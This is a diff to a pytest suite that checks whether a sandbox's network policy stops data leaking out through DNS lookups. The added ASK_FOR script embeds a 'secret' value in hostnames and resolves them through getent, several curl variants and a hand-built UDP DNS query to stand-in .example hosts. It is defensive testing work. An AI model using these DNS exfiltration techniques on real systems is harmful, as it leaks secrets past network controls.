@@ -5,6 +5,7 @@ import base64
 import hashlib
 import io
 import json
+import time
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
@@ -178,8 +179,8 @@ def served():
 
 
 @pytest.fixture(scope="module")
-def world(work_machine):
-    """The machine, with a world outside of it."""
+def world_process(work_machine):
+    """A world outside of the machine, which says what it is asked."""
     machine = work_machine
     for name, content in served().items():
         machine.write(f"{PLACE}/{name}", content)
@@ -188,11 +189,17 @@ def world(work_machine):
         process = machine.popen(["python3", "-B", f"{PLACE}/outside_world.py", PLACE, "forge"], user="root")
         assert read_line(process) == b"ready\n"
         machine.run(["mkdir", PROJECT], check=True)
-        yield machine
+        yield process
         process.kill_all()
         process.communicate()
         machine.install_policy(PLAYING_POLICY)
         machine.root(["bash", "-c", REMOVE], check=True, timeout=300)
+
+
+@pytest.fixture(scope="module")
+def world(work_machine, world_process):
+    assert world_process
+    return work_machine
 
 
 @pytest.fixture(scope="module")
@@ -271,6 +278,40 @@ def test_with_a_rule_it_works_and_without_it_fails_at_once_and_is_told(name, wor
     assert (allowed.status, allowed.says) == (0, tool.says), allowed
     assert "denied" not in allowed.err, allowed
     assert denials(world, tool.host) == told
+
+
+def names_asked(world, process):
+    """Those that the name server outside was asked for since the last time."""
+    last = f"last-{time.monotonic_ns()}.example"
+    world.run(["getent", "ahostsv4", last], check=True)
+    names = set()
+    while (line := read_line(process).decode().split()) != ["NAME", last]:
+        assert line, "the world has ended"
+        if line[0] == "NAME":
+            names.add(line[1])
+    return names
+
+
+ASK_FOR = """
+getent ahostsv4 by-name-$1.example; getent ahosts by-both-$1.example
+curl -sS -m 5 -o /dev/null https://by-proxy-$1.example; curl -sS -m 5 -o /dev/null --noproxy '*' https://by-itself-$1.example
+curl -sS -m 5 -o /dev/null -k --noproxy '*' --resolve by-sni-$1.example:443:192.0.2.9 https://by-sni-$1.example
+curl -sS -m 5 -o /dev/null http://by-http-$1.example
+python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(sys.argv[1])]) + sys.argv[1].encode() + b"\7example\0\0\20\0\1", ("127.0.0.53", 53)); s.recv(512)' "by-text-$1"
+true
+"""
+
+
+def test_a_name_without_a_rule_is_never_asked_for_outside(world, world_process, worlds_policy):
+    """Whatever it says would get out by it. One with a rule is asked for, so this looks where it would be seen."""
+    worlds_policy("named.example")
+    names_asked(world, world_process)
+    pi(world, "sh", 'sh -c "$1" sh "$2"; curl -sS -m 5 -o /dev/null https://named.example', ASK_FOR, "secret", cwd=PROJECT, timeout=60)
+    asked = names_asked(world, world_process)
+    assert "named.example" in asked, asked
+    assert not [name for name in asked if "secret" in name], asked
+    world.run(["sh", "-c", ASK_FOR, "sh", "secret"], timeout=60)
+    assert {"by-name-secret.example", "by-itself-secret.example"} <= names_asked(world, world_process)
 
 
 def denials(world, host):
